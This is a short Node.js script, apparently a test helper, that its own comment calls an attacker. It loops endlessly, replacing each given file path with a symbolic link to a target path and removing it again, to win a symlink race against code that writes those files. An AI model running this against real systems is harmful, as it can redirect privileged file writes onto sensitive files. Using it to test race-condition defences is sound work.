/** An attacker: puts a link to the target in the place of each file, takes it away, and again, until it is killed. */
import { rmSync, symlinkSync } from 'node:fs';

const [target = '', ...paths] = process.argv.slice(2);
process.stdout.write('Swapping\n');
for (;;) {
  for (const path of paths) {
    try {
      symlinkSync(target, path);
    } catch {
      // Somebody was faster: the next one.
    }
    rmSync(path, { force: true });
  }
}
